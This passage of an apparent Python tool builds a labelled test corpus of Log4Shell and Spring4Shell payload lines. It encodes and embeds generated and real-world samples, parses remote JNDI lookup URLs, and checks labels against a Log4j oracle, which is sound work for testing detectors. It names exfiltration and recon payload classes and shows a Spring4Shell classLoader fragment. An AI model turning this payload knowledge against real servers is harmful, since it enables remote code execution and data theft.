            payload = decoy_payload(g)
        if payload in seen:
            continue
        seen.add(payload)
        if rule == "spring4shell-classloader":
            # a query string travels URL-encoded (its values at least)
            encoding = g.pick(["url-query", "url-query", "url-dots"])
            encoded = "&".join(k + "=" + urllib.parse.quote(v, safe="/.")
                               for k, v in (p.partition("=")[::2] for p in payload.split("&")))
            if encoding == "url-dots":
                encoded = url_encode(encoded, g, ".[]")  # class%2Emodule%2EclassLoader
            layers = ["url"]
        else:
            encoding = g.pick(ENCODINGS)
            encoded, layers = apply_encoding(g, payload, encoding)
        line, layers = embed(g, encoded, layers, placement)
        entries.append({
            "id": "gen-%04d" % (len(entries) + 1),
            "source": "generated",
            "payload": payload,
            "line": line,
            "layers": layers,
            "rule": rule,
            "expect": None,
        })
    return entries


def real_world_entries(path, seed):
    g = Gen(random.Random(seed ^ 0x5EED))
    entries = []
    rule = "auto"
    origin = ""
    with open(path, encoding="utf-8") as f:
        for lineno, text in enumerate(f, 1):
            text = text.rstrip("\n")
            if not text.strip():
                continue
            if text.startswith("#@rule "):
                rule = text[len("#@rule "):].strip()
                if rule != "auto" and rule not in LOG4J_RULES + OTHER_RULES:
                    raise SystemExit(f"{path}:{lineno}: unknown rule {rule!r}")
                continue
            if text.startswith("# source:"):
                origin = text[len("# source:"):].strip()
                continue
            if text.startswith("#"):
                continue
            if text.startswith("@line\t"):
                _, payload, line = text.split("\t", 2)
                layers = ["as-seen"]
            else:
                payload = text
                if rule == "spring4shell-classloader":
                    line, layers = embed(g, payload, ["url"], "access-query")
                else:
                    encoding = "none" if g.chance(0.6) else g.pick(ENCODINGS)
                    encoded, layers = apply_encoding(g, payload, encoding)
                    line, layers = embed(g, encoded, layers)
            entries.append({
                "id": "rw-%03d" % (len(entries) + 1),
                "source": "real-world",
                "origin": origin,
                "payload": payload,
                "line": line,
                "layers": layers,
                "rule": rule,
                "expect": None,
            })
    return entries


# ---- the oracle's answers ------------------------------------------------------------

def needs_oracle(entry):
    return entry["rule"] in LOG4J_RULES or entry["rule"] == "auto"


def balanced(text):
    depth = 0
    i = 0
    while i < len(text):
        if text.startswith("${", i):
            depth += 1
            i += 2
            continue
        if text[i] == "}":
            if depth == 0:
                return False
            depth -= 1
        i += 1
    return depth == 0


def split_outside_lookups(text, stop):
    """Index of the first character of `stop` in `text` outside `${…}` groups, else -1."""
    depth = 0
    i = 0
    while i < len(text):
        if text.startswith("${", i):
            depth += 1
            i += 2
            continue
        if text[i] == "}" and depth > 0:
            depth -= 1
        elif depth == 0 and text[i] in stop:
            return i
        i += 1
    return -1


def parse_jndi_key(key):
    """(protocol, host, port, path) of a remote JNDI URL, else None. Lookups left unresolved
    in the host or path (`${env:X}`) are opaque: their ':' and '/' do not split."""
    colon = key.find("://")
    if colon <= 0:
        return None
    protocol = key[:colon]
    if protocol.lower() not in REMOTE_PROTOCOLS:
        return None
    rest = key[colon + 3:]
    if not balanced(rest):
        return None
    slash = split_outside_lookups(rest, "/")
    authority, path = (rest, "") if slash < 0 else (rest[:slash], rest[slash:])
    port = None
    # the port: digits after the last ':' outside lookups
    depth, last = 0, -1
    i = 0
    while i < len(authority):
        if authority.startswith("${", i):
            depth += 1
            i += 2
            continue
        if authority[i] == "}" and depth > 0:
            depth -= 1
        elif depth == 0 and authority[i] == ":":
            last = i
        i += 1
    host = authority
    if last >= 0 and authority[last + 1:].isdigit() and authority[last + 1:].isascii():
        host, port = authority[:last], int(authority[last + 1:])
    if not host:
        return None
    return protocol, host, port, path


def classify(expect):
    """The rule Log4j's behaviour implies for a real-world entry marked "auto"."""
    keys = expect["jndi"]
    if keys:
        parsed = parse_jndi_key(keys[0])
        if parsed is not None:
            return "log4shell-jndi-exfil" if "${" in keys[0] else "log4shell-jndi"
        return "lookup-benign"
    lowered = expect["output"].lower()
    if any(lk.lower() in lowered for lk in RECON_LOOKUPS) or "${hostname}" in lowered:
        return "log4shell-recon"
    return "lookup-benign"


def disagreement(rule, expect):
    """Why Log4j's answer contradicts `rule`, or None."""
    keys = expect["jndi"]
    first = parse_jndi_key(keys[0]) if keys else None
    if rule == "log4shell-jndi":
        if first is None or "${" in keys[0]:
            return "Log4j made no plain remote lookup"
    elif rule == "log4shell-jndi-exfil":
        if first is None or "${" not in keys[0]:
            return "Log4j made no remote lookup carrying a lookup"
    elif rule == "log4shell-recon":
        if keys:
            return "Log4j made a JNDI lookup"
    elif rule == "lookup-benign":
        if any(parse_jndi_key(k) for k in keys):
            return "Log4j made a remote lookup"
    return None


def merge(entries_path, oracle_path):
    with open(entries_path, encoding="utf-8") as f:
        entries = [json.loads(l) for l in f if l.strip()]
    with open(oracle_path, encoding="utf-8") as f:
        answers = [json.loads(l) for l in f if l.strip()]
    wanted = [e for e in entries if needs_oracle(e)]
    if len(wanted) != len(answers):
        raise SystemExit(f"merge: {len(wanted)} payloads but {len(answers)} oracle answers")
    problems = []
    for entry, expect in zip(wanted, answers):
        if "error" in expect:
            problems.append(f"{entry['id']}: Log4j threw {expect['error']}: {entry['payload']!r}")
            continue
        entry["expect"] = {"output": expect["output"], "jndi": expect["jndi"]}
        if entry["rule"] == "auto":
            entry["rule"] = classify(expect)
        why = disagreement(entry["rule"], expect)
        if why:
            problems.append(f"{entry['id']}: rule {entry['rule']} but {why}: "
                            f"{entry['payload']!r} -> {expect}")
    if problems:
        for p in problems:
            print("merge: " + p, file=sys.stderr)
        raise SystemExit(f"merge: {len(problems)} entries disagree with Log4j")
    out = sys.stdout
    for e in entries:
        out.write(json.dumps(e, ensure_ascii=False) + "\n")


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--seed", type=int, default=20211210)
    ap.add_argument("--count", type=int, default=700)
    ap.add_argument("--real-world", metavar="FILE")
    ap.add_argument("--extract-payloads", metavar="ENTRIES")
    ap.add_argument("--merge", nargs=2, metavar=("ENTRIES", "ORACLE_OUTPUT"))
    args = ap.parse_args()
    sys.stdout.reconfigure(encoding="utf-8", newline="\n")
    if args.extract_payloads:
        with open(args.extract_payloads, encoding="utf-8") as f:
            for l in f:
                if l.strip():
                    e = json.loads(l)
                    if needs_oracle(e):
                        sys.stdout.write(json.dumps(e["payload"], ensure_ascii=False) + "\n")
        return
    if args.merge:
        merge(*args.merge)
        return
    entries = generated_entries(args.seed, args.count)
    if args.real_world:
        entries += real_world_entries(args.real_world, args.seed)
    for e in entries:
        sys.stdout.write(json.dumps(e, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
